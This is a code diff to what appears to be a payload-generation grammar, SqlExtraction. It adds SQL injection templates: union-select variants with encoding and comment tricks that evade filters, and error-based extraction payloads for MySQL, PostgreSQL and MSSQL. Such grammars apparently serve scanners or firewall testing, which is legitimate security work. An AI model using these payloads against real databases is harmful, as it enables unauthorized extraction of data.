@@ -48,9 +48,18 @@ final class SqlExtraction {
               ununionion seselectlect
               union all select top «1..9»
               +union+all+select+
+              %a0union%a0all%a0select
+              union«tab»select
+              union«vt»all«ff»select
+              union--%0aselect
+              union#«letters 3..6»%0aselect
+              union-- -«letters 3..6»«nl»select
+              /*!0union*/ /*!0select*/
+              union(/**//**/select
               %55nion %53elect
               union («@mix select»
             union ::=
+              «before»«'¦»«0e1¦.1¦1.e¦\\N¦-.1¦1.0¦1e0¦8.0»union select «cells» «from»«end»
               12×«out» «union_word» «cells» «from» «end»
               2×«before» «union_word» «cells» «from»«end»
               2×«out» group by «column» «union_word» «cells» «from»«end»
@@ -66,6 +75,10 @@ final class SqlExtraction {
             error ::=
               3×«out» «op» extractvalue(«n»,concat(«mark»,(«select»)«?,«mark»»))«end»
               3×«out» «op» updatexml(«n»,concat(«mark»,(«select»)«?,«mark»»),«n»)«end»
+              2×«out» «op» (select «n» from(select count(*),concat(«mark»,(select (elt(«x:=1000..9999»=«=x»,1))),«mark»,floor(rand(0)*2))x from information_schema.«plugins¦character_sets¦tables» group by x)a)«end»
+              «out» «op» extractvalue(«n»,concat(0x5c,«mark»,(select (elt(«x:=1000..9999»=«=x»,1))),«mark»))«end»
+              «out» «op» «n»=cast((«@chrpipe «letters 3..5»»)||(select (case when («x:=1000..9999»=«=x») then 1 else 0 end))::text||(«@chrpipe «letters 3..5»») as numeric)«end»
+              «out» «op» «n» in (select («@charplus «letters 3..5»»+(select (case when («x:=1000..9999»=«=x») then char(49) else char(48) end))+«@charplus «letters 3..5»»))«end»
               2×«out» «op» (select «n» from(select count(*),concat((«select»),«mark»,floor(rand(0)*2))«name» from «table» group by «name»)«letters 1..1»)«end»
               «out» or row(«n»,«n»)>(select count(*),concat((«select»),floor(rand(0)*2))x from (select «n» union select «n»)a group by x limit 1)«end»
               «out» group by concat((«select»),floor(rand(0)*2)) having min(0)«end»
